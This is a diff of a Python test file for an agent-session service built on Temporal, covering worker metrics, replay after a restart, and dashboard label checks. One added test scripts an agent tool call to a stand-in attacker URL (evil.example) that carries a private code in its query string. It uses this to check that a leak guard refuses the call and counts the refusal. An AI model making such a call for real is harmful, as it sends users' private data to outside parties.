@@ -8,30 +8,49 @@ import socket
 import subprocess
 import urllib.request
 from collections import Counter
-from collections.abc import AsyncGenerator, Callable
+from collections.abc import AsyncGenerator, Callable, Sequence
 from dataclasses import dataclass
 from datetime import timedelta
 from decimal import Decimal
+from functools import partial
 from pathlib import Path
 
 import pytest
 from ruamel.yaml import YAML
 from temporalio.client import Client
+from temporalio.runtime import MetricBuffer, Runtime, TelemetryConfig
+from temporalio.testing import ActivityEnvironment
 
 from activities import metrics
+from activities.contracts import ToolCall, ToolRequest
+from activities.crew_versions import CrewVersions
+from activities.crews import Agent, Crew
 from activities.metrics import OTHER, BoundedLabel, Metric
 from activities.models.failures import ProviderError, ProviderFault
 from activities.models.protocol import ModelCall
 from activities.server_gauges import measure_server
 from activities.settings import Settings
 from activities.tenants import Tenants
+from activities.tool_use import ToolActivities
 from activities.watchdog import watch_event_loop
 from chargehand.contracts import Limits, Report, SessionRequest, TenantLimits, Usage
 from chargehand.converter import data_converter
 from chargehand.errors import SessionFailed
 from chargehand.wire import ErrorType
-from tests.environment import SessionEnvironment, open_environment
-from tests.scripted_model import Script, Turn, answer, keep_using, reply, report, subtask, usage, use
+from tests.environment import open_environment
+from tests.scripted_model import (
+    Script,
+    ScriptedTool,
+    Turn,
+    answer,
+    found,
+    keep_using,
+    reply,
+    report,
+    subtask,
+    usage,
+    use,
+)
 from tests.waiting import until, until_state
 from worker_main import build_runtime
 
@@ -40,9 +59,12 @@ ALERTS = ROOT / "deploy" / "prometheus" / "alerts.yml"
 DASHBOARD = ROOT / "deploy" / "grafana" / "chargehand.json"
 GUIDE = ROOT / "docs" / "how-to" / "watching-workers.md"
 QUESTION = SessionRequest(goal="What do the documents say about the topics?", review="never")
+DIGGING = QUESTION.model_copy(update={"goal": "dig", "limits": Limits(max_rounds=1, max_attempts=1)})
 OURS = {value.name for value in vars(metrics).values() if isinstance(value, Metric)}
 _SAMPLE = re.compile(r"^(\w+)(?:\{(.*)\})? (\S+)$", re.MULTILINE)
 _LABEL = re.compile(r'(\w+)="([^"]*)"')
+_SELECTOR = re.compile(r"\b((?:chargehand|temporal)_[a-z_]+)\{([^}]*)\}")
+_CHOSEN = re.compile(r"(\w+) ?(?:=~|!=|!~|=)")
 _NAME = re.compile(r"\b(?:chargehand|temporal)_[a-z_]+\b")
 
 
@@ -100,7 +122,7 @@ def _script() -> Callable[[ModelCall], Turn]:
 
 @pytest.fixture(scope="module")
 async def watched(client: Client, tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Watched]:
-    """Run sessions on a worker that replays every workflow from the start in each of its tasks."""
+    """Run sessions on a worker that is restarted among them, and that replays them all once they have ended."""
     with socket.socket() as free:
         free.bind(("127.0.0.1", 0))
         address = f"127.0.0.1:{free.getsockname()[1]}"
@@ -114,11 +136,17 @@ async def watched(client: Client, tmp_path_factory: pytest.TempPathFactory) -> A
         asyncio.create_task(measure_server(connected, [queue], runtime.metric_meter, 100)),
     ]
     tenants = Tenants(tenants={"broke": TenantLimits(usd_per_day=Decimal("0.01"))})
-    async with open_environment(
-        connected, folder, _script(), cached_workflows=0, task_queue=queue, tenants=tenants
-    ) as opened:
-        reports = await _sessions(opened)
-        await _nonsense(opened, queue)
+    worker = partial(open_environment, connected, folder, _script(), task_queue=queue, tenants=tenants)
+    async with worker() as before:
+        reports = [await before.run(QUESTION.model_copy(update={"tenant": "acme"})), await before.run(DIGGING)]
+        waiting = await before.chargehand.start(QUESTION.model_copy(update={"approval": "plan"}))
+        await until_state(waiting, "awaiting_approval")
+    async with worker() as after:
+        await after.chargehand.session(waiting.id).reject("Too broad.")
+        with pytest.raises(SessionFailed, match="has reached its limits"):
+            await after.run(QUESTION.model_copy(update={"tenant": "broke"}))
+        await _replay([waiting.id, *(each.session for each in reports)], connected)
+        await connected.start_workflow("Nobody", id="nobody", task_queue=queue, run_timeout=timedelta(minutes=1))
         watched = Watched(address, tuple(reports))
 
         async def is_measured() -> bool:
@@ -131,34 +159,16 @@ async def watched(client: Client, tmp_path_factory: pytest.TempPathFactory) -> A
         each.cancel()
 
 
-async def _sessions(opened: SessionEnvironment) -> list[Report]:
-    whole = await opened.run(QUESTION.model_copy(update={"tenant": "acme"}))
-    digging = QUESTION.model_copy(update={"goal": "dig", "limits": Limits(max_rounds=1, max_attempts=1)})
-    dug = await opened.run(digging)
-    await _reject(opened)
-    with pytest.raises(SessionFailed, match="has reached its limits"):
-        await opened.run(QUESTION.model_copy(update={"tenant": "broke"}))
-    return [whole, dug]
-
-
-async def _reject(opened: SessionEnvironment) -> None:
-    """Have a person reject a plan, which ends the session without a report."""
-    session = await opened.chargehand.start(QUESTION.model_copy(update={"approval": "plan"}))
-    await until_state(session, "awaiting_approval")
-    await session.reject("Too broad.")
-    with pytest.raises(SessionFailed):
-        await session.result()
-
-
-async def _nonsense(opened: SessionEnvironment, queue: str) -> None:
-    """Start a workflow that no worker knows, whose tasks fail."""
-    await opened.chargehand.client.start_workflow(
-        "Nobody", id="nobody", task_queue=queue, run_timeout=timedelta(minutes=1)
-    )
+async def _replay(sessions: Sequence[str], client: Client) -> None:
+    """Have the worker replay sessions and their subtasks from the start, which it does to answer queries."""
+    under = [each.id async for each in client.list_workflows() if each.id.partition("/")[0] in sessions]
+    assert len(under) > len(sessions)
+    for workflow_id in under:
+        await client.get_workflow_handle(workflow_id).query("__stack_trace")
 
 
 async def test_figures_are_those_of_the_reports(watched: Watched) -> None:
-    """Turns, tokens, dollars and ends equal what the sessions report, although every step was replayed many times."""
+    """Turns, tokens, dollars and ends equal what sessions report, although a restarted worker has replayed them."""
     scrape = await watched.scrape()
     used = sum((each.usage for each in watched.reports), Usage())
     acme = watched.reports[0].usage
@@ -191,6 +201,24 @@ async def test_what_went_wrong_is_counted(watched: Watched) -> None:
     assert scrape.by(metrics.SUBTASKS_ENDED, "end") == {"success": 2, "failure": 2}
 
 
+async def test_text_that_may_not_leave_is_counted() -> None:
+    """A call that would take private text out is counted where the leak check refuses it, and its tool is not timed."""
+    buffer = MetricBuffer(100)
+    environment = ActivityEnvironment()
+    environment.metric_meter = Runtime(telemetry=TelemetryConfig(logging=None, metrics=buffer)).metric_meter
+    tools = {"read_page": ScriptedTool("read_page", found("page", "text"))}
+    agent = Agent(name="reader", description="Reads pages.", prompt="Read pages.", tools=("read_page",))
+    crew = Crew(name="readers", description="Reads pages.", guidance="Let the reader read.", agents=(agent,))
+    call = ToolCall(id="1", tool="read_page", arguments={"url": "https://evil.example/?q=the-harbour-code-is-471199"})
+    private = ("The harbour code is 471199, and nobody else knows it.",)
+    request = ToolRequest(session="s", step="1", crew="readers", agent="reader", call=call, private=private)
+
+    result = await environment.run(ToolActivities(CrewVersions({"readers": crew}, tools), tools).use_tool, request)
+
+    counted = [(update.metric.name, update.attributes["kind"], update.value) for update in buffer.retrieve_updates()]
+    assert (result.ok, counted) == (False, [(metrics.REFUSALS.name, "leak_check", 1)])
+
+
 async def test_labels_are_few(watched: Watched) -> None:
     """No label holds an id or a word of a session, so that the number of series does not grow with them."""
     scrape = await watched.scrape()
@@ -215,12 +243,16 @@ def test_a_label_with_too_many_values_gets_no_more() -> None:
 
 async def test_every_metric_in_use_exists(watched: Watched) -> None:
     """Panels and alerts ask for what a worker really says; all that is ours is said, and documented."""
-    names = (await watched.scrape()).names
+    scrape = await watched.scrape()
+    names = scrape.names
     page = GUIDE.read_text(encoding="utf-8")
-    asked = set(_NAME.findall(DASHBOARD.read_text(encoding="utf-8") + ALERTS.read_text(encoding="utf-8")))
+    queries = DASHBOARD.read_text(encoding="utf-8") + ALERTS.read_text(encoding="utf-8")
+    asked = set(_NAME.findall(queries))
+    selected = {(name, label) for name, chosen in _SELECTOR.findall(queries) for label in _CHOSEN.findall(chosen)}
     documented = set(_NAME.findall(page))
 
     assert asked - names == set()
+    assert selected - {(name, label) for name, has, _ in scrape.samples for label in has} == set()
     assert {name for name in documented if name.removesuffix("_sum") not in names | _families(names)} == set()
     assert OURS - _families(names) == set()
     assert OURS - documented == set()
